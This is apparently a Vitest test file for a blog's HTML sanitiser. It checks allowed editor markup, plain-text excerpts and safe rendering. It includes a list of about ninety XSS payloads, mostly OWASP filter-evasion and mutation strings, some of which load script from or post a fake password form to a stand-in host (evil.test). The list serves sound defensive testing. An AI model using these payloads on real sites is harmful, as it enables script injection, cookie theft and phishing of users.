import { describe, expect, test } from 'vitest'
import { naughtyStrings } from '#tests/support/naughty.ts'
import { editableHtml, plainTextOf, readableHtml, sanitizePostHtml } from './post-html.server.ts'

describe('the sanitiser keeps what the editor can make', () => {
  test.each([
    ['headings', '<h2>One</h2><h3>Two</h3><h4>Three</h4>'],
    ['text in its forms', '<p><strong>a</strong> <em>b</em> <u>c</u> <s>d</s> <code>e</code> x<sup>2</sup></p>'],
    ['lists', '<ul><li><p>a</p></li></ul><ol start="3"><li>b</li></ol>'],
    ['quotations and code', '<blockquote><p>a</p></blockquote><pre><code>if (a &lt; b) &amp;&amp; c</code></pre>'],
    [
      'tables',
      '<table><tbody><tr><th colspan="2" scope="col">a</th></tr><tr><td rowspan="2">b</td><td>c</td></tr></tbody></table>',
    ],
    ['links within the site', '<a href="/rates?type=variable#history">rates</a>'],
    ['links to write and call', '<a href="mailto:hello@maplekey.example">a</a><a href="tel:+14165550142">b</a>'],
  ])('%s', (_, html) => {
    expect(sanitizePostHtml(html)).toBe(html)
  })

  test('a link to another site sends no referrer', () => {
    expect(sanitizePostHtml('<a href="https://example.ca/a?b=c&amp;d">x</a>')).toBe(
      '<a href="https://example.ca/a?b=c&amp;d" rel="noopener noreferrer">x</a>',
    )
  })

  test('a picture of ours or over https loads lazily and keeps its size', () => {
    const late = 'loading="lazy" decoding="async" referrerpolicy="no-referrer" />'
    const own = '/media/blog/b-800x600'
    const sizes =
      `srcset="${own}-160w.webp 160w, ${own}-320w.webp 320w, ${own}-640w.webp 640w, ${own}.webp 800w" ` +
      'sizes="(min-width: 40rem) 37rem, 100vw"'
    const clean = `<img src="${own}.webp" ${sizes} alt="A house" width="800" height="600" ${late}`
    expect(sanitizePostHtml(`<img src="${own}.webp" alt="A house" srcset="https://evil.test/a 2x">`)).toBe(clean)
    expect(sanitizePostHtml(clean)).toBe(clean)
    expect(sanitizePostHtml('<img src="https://example.ca/a.png">')).toBe(
      `<img src="https://example.ca/a.png" alt="" ${late}`,
    )
  })

  test("headings in a post start below the page's own title", () => {
    expect(sanitizePostHtml('<h1>a</h1><h5>b</h5><h6>c</h6>')).toBe('<h2>a</h2><h4>b</h4><h4>c</h4>')
  })
})

/** Mostly from the OWASP filter evasion list, and markup that changes when a browser parses it a second time. */
const hostile = [
  '<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>',
  '<script>alert(1)</script>',
  '<script >alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="https://evil.test/xss.js"></SCRIPT>',
  '<SCRIPT SRC=https://evil.test/xss.js?< B >',
  '<img src="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert("XSS")>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="java\0script:alert(1)">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.test/pixel.png">',
  '<img src="http://evil.test/pixel.png">',
  '<img src="/auth/sign-out">',
  '<img src="/media/../auth/sign-out">',
  '<img src="/media/anything.svg">',
  '<img src="https://user:pass@evil.test/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&Tab;:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="/&#1;/evil.test">x</a>',
  '<a href="&#1;//evil.test">x</a>',
  '<a href="/&#9;/evil.test">x</a>',
  '<a href="java&#1;script:alert(1)">x</a>',
  '<img src="https://ok.test/&#11;a.png">',
  '<a href="http://evil.test">x</a>',
  '<a href="https:evil.test">x</a>',
  '<a href="https://maplekey.example\\@evil.test">x</a>',
  '<a href="mailto:a@b.test?bcc=everybody@evil.test&body=x">x</a>',
  '<a href="/rates" target="_blank" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a onmouseover="alert(document.cookie)">x</a>',
  '<BODY ONLOAD=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<form action="https://evil.test"><input name="password"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<base href="https://evil.test/">',
  '<STYLE>@import"https://evil.test/xss.css";</STYLE>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">x</p>',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.test/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1) type=image>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?>',
  '<p id="main" class="fixed" name="cookie" data-x="y" tabindex="1" contenteditable>x</p>',
  '<img name="getElementById" src="https://example.ca/a.png" srcset="javascript:alert(1) 2x" usemap="#x">',
  '<td background="javascript:alert(1)" colspan="1e9" rowspan="-1">x</td>',
  '<a href="https://ok.test/"onmouseover="alert(1)">x</a>',
  '<a/href="javascript:alert(1)">x',
  '<p><a href="https://ok.test/&quot; onclick=alert(1) x=&quot;">x</a></p>',
  '"><img src=x onerror=alert(1)>',
  '¼script¾alert(1)¼/script¾',
]

/** Every tag and attribute that may remain, spelled as the sanitiser spells it. */
const allowedMarkup =
  /<\/?(p|br|hr|h[2-4]|blockquote|pre|code|strong|b|em|i|u|s|sub|sup|mark|ul|ol|li|figure|figcaption|table|caption|colgroup|col|thead|tbody|tfoot|tr)( \/)?>|<\/(a|th|td)>|<(th|td)( (colspan|rowspan)="\d+")*>|<a( href="(https:\/\/[^"<>]+" rel="noopener noreferrer|\/[\w?#=/-]*|mailto:[^"<>?]+|tel:[\d+]+)")?>|<img src="(https:\/\/[^"<>@]+)" alt="[^"<>]*" loading="lazy" decoding="async" referrerpolicy="no-referrer" \/>/g

describe('the sanitiser removes everything hostile', () => {
  test.each(hostile.map((html) => [html]))('%s', (html) => {
    const clean = sanitizePostHtml(html)
    expect(clean.replace(allowedMarkup, '')).not.toMatch(/[<>]/)
    expect(sanitizePostHtml(clean)).toBe(clean)
  })

  test.each(naughtyStrings.map((text) => [text]))('from %j, as content and in an attribute', (text) => {
    for (const html of [
      text,
      `<p>${text}</p>`,
      `<a href="${text}">x</a>`,
      `<img alt="${text}" src="https://ok.test/a">`,
    ]) {
      const clean = sanitizePostHtml(html)
      expect(clean.replace(allowedMarkup, '')).not.toMatch(/[<>]/)
      expect(sanitizePostHtml(clean)).toBe(clean)
    }
  })

  test('from a post with extremely deep nesting, quickly', () => {
    const begun = performance.now()
    const clean = sanitizePostHtml('<blockquote>'.repeat(15_000))
    expect(performance.now() - begun).toBeLessThan(2000)
    expect(clean.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(40)
  })

  test('text that mentions tags keeps them as text', () => {
    const html = '<p>Write &lt;script&gt;alert(1)&lt;/script&gt; and 3 &lt; 4</p>'
    expect(sanitizePostHtml(html)).toBe(html)
  })
})

describe('the plain text of a post', () => {
  test('is one line without tags, and words of separate blocks stay apart', () => {
    const html =
      '<h2>One</h2><p>Two &amp; <b>three</b>,<br>four</p><ul><li>five</li><li>six</li></ul><script>x</script>'
    expect(plainTextOf(html, 300)).toBe('One Two & three, four five six')
  })

  test('shows what was typed, once and as text', () => {
    expect(plainTextOf('<p>&amp;lt;b&amp;gt; &lt;b&gt; "q"</p>', 300)).toBe('&lt;b&gt; <b> "q"')
  })

  test('is cut at the end of a word, even in the middle of a tag', () => {
    expect(plainTextOf('<p>one two three four</p>', 12)).toBe('one two…')
    expect(plainTextOf('<p>one <a href="https://exam', 300)).toBe('one')
  })
})

describe('stored content prepared for a page', () => {
  test('turns plain text into paragraphs and keeps its line breaks', () => {
    expect(readableHtml('One < two\nand\n\n \nthree & four')).toBe(
      '<p>One &lt; two<br />and</p><p>three &amp; four</p>',
    )
    expect(readableHtml('')).toBe('')
  })

  test('sanitises HTML and puts a table into a scrolling frame', () => {
    expect(readableHtml('<p onclick="x()">a</p><script>x</script><table><tr><td>1</td></tr></table>')).toBe(
      '<p>a</p><div class="scroll-frame" role="group" aria-label="Table" tabindex="0"><table><tr><td>1</td></tr></table></div>',
    )
  })

  test('escapes text that only looks like plain text', () => {
    expect(readableHtml('Hello <img src=x onerror=alert(1)')).not.toContain('<img')
    expect(readableHtml('</p\n><svg/onload=alert(1)>')).not.toContain('<svg')
  })
})

test('gives the editor only what a page may show, whatever is stored', () => {
  const stored = '<p onclick="x()">Hi <a href="javascript:x">there</a><script>x()</script></p>'
  expect(editableHtml(stored)).toBe('<p>Hi <a>there</a></p>')
  expect(editableHtml('One.\n\nTwo < three.')).toBe('<p>One.</p><p>Two &lt; three.</p>')
})
